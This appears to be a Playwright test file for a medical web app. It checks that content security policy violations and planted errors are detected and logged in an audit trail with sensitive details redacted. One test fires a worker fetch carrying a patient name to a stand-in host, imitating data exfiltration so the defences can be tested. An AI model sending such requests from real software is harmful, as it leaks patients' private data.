import { expect, test } from './fixtures/quiet-test.ts';

test('a breach of the content security policy and an error are noticed in every test', async ({
  page,
  complaints,
}) => {
  // The program has begun by then, and nothing of it is on the screen.
  await page.addInitScript(() => {
    document.addEventListener('DOMContentLoaded', () => {
      const image = new Image();
      image.src = 'http://127.0.0.3/early.png';
      document.body.append(image);
    });
  });
  await page.goto('/');
  await expect(page.getByText('Sample encounters were added')).toBeVisible();
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'http://127.0.0.2/planted.png';
    document.body.append(image);
    setTimeout(() => {
      throw new Error('planted error');
    });
  });
  for (const sign of [
    'securitypolicyviolation: img-src http://127.0.0.3/early.png',
    'securitypolicyviolation: img-src http://127.0.0.2/planted.png',
    'planted error',
  ]) {
    await expect.poll(() => complaints.some((one) => one.includes(sign)), { message: sign }).toBe(true);
  }
  complaints.length = 0;

  // The program has noted all of it itself, without what the address carried and what the error said.
  await page.getByRole('link', { name: 'Settings', exact: true }).click();
  await page.getByRole('link', { name: 'Open the audit trail' }).click();
  await page.getByText('Security events (3)').click();
  const events = page.getByRole('table').last();
  await expect(events).toContainText('Held up by the security policy');
  for (const host of ['127.0.0.2', '127.0.0.3']) await expect(events).toContainText(`img-src http://${host}`);
  await expect(events).toContainText('Unexpected error');
  await expect(events).not.toContainText('planted');
});

test('a breach of the policy in a thread is noticed in every test, and noted by the program', async ({
  page,
  complaints,
}) => {
  await page.goto('/');
  await page.getByRole('link', { name: 'Two antibiotics at once' }).click();
  await expect(page.getByRole('button', { name: /^Policy/ })).toBeVisible();
  // The thread that writes is begun a moment after the store has opened.
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
  for (const thread of page.workers()) {
    await thread.evaluate(() => fetch('http://127.0.0.4/planted?patient=Jane-Doe').catch(() => undefined));
  }
  await expect
    .poll(() => complaints.some((one) => one.includes('127.0.0.4') && one.includes('thread')))
    .toBe(true);
  complaints.length = 0;

  await page.goto('/audit-trail');
  await page.getByText('Security events (1)').click();
  const events = page.getByRole('table').last();
  await expect(events).toContainText('connect-src http://127.0.0.4 (thread)');
  await expect(events).not.toContainText('Jane');
});
